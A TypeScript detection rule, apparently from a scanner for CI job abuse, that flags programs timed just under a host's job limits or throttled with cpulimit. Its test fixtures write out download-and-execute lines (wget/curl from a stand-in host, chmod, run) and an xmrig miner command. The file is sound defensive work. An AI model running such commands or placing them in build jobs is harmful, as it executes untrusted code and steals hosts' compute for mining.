import { timeoutSeconds } from '../engine/job-time.ts';
import { type CommandPassage, type JobView, runsBrought } from '../engine/job-view.ts';
import { programName } from '../engine/program.ts';
import type { Match, Rule } from '../engine/rule.ts';
import { WEIGHTS } from '../engine/weights.ts';
import { isMinerCommand } from './miner-command-line.ts';

/** Limits after which hosts end a job: one hour, two, six. */
const LIMIT_SECONDS = [3_600, 7_200, 21_600] as const;
/** What ends in the last tenth before a limit was measured against it. */
const PADDING_SHARE = 0.1;
/** A program's own timeout counts from here on: tests are given minutes. */
const PROGRAM_SECONDS_MIN = 2_700;

/** A program is ended just before the host would end it, or is held to a share of the processor. */
export const timeLimitPadding: Rule = {
  id: 'time-limit-padding',
  title: "A program is held just under the host's limits",
  severity: 'low',
  confidence: 'low',
  maturity: 'stable',
  group: 'upkeep',
  // Only circumstances, which need no atom.
  atoms: [],
  hits: [
    {
      what: 'ended before six hours',
      script: 'wget -qO w https://a.test/w; chmod +x w; timeout 350m ./w',
    },
    {
      what: 'ended before one hour',
      script: 'curl -Lo w https://a.test/w; chmod +x w; timeout -k 5 3300 ./w',
    },
    {
      what: 'held to a share of the processor',
      script: 'curl -Lo w https://a.test/w; chmod +x w; cpulimit -l 670 -- ./w',
    },
    {
      what: 'a miner with a long timeout',
      script: 'timeout 5.8h ./xmrig -o 203.0.113.9:443 -u a -p x',
    },
  ],
  innocents: [
    { what: 'a test that may hang', script: 'timeout 10m ./run-tests' },
    { what: 'a long test', script: 'timeout 350m make check' },
    { what: 'a wait for a server', script: 'timeout 3300 bash -c "until nc -z db 1; do :; done"' },
    { what: 'a fuzzer', script: 'timeout 3300 cargo fuzz run parse' },
  ],
  look(view: JobView): readonly Match[] {
    const commands = view.commands.filter(
      (command) => runsBrought(command, view) || isMinerCommand(command, view),
    );
    const held = commands.filter((command) => isHeld(command));
    const stated = view.shape.timeoutSeconds;
    const first = stated !== null && isJustUnder(stated) ? commands.slice(0, 1) : [];
    return [...new Set([...held, ...first])].map((passage) => {
      const match = { passage, bits: WEIGHTS.limitPadding, evidence: passage.text } as const;
      return { ...match, role: 'circumstance', position: 'executed' };
    });
  },
};

function isHeld(command: CommandPassage): boolean {
  const seconds = timeoutSeconds(command);
  if (seconds !== null) return seconds >= PROGRAM_SECONDS_MIN;
  return command.words.some((word) => programName(word) === 'cpulimit');
}

function isJustUnder(seconds: number): boolean {
  return LIMIT_SECONDS.some((limit) => {
    return seconds < limit && seconds >= limit * (1 - PADDING_SHARE);
  });
}
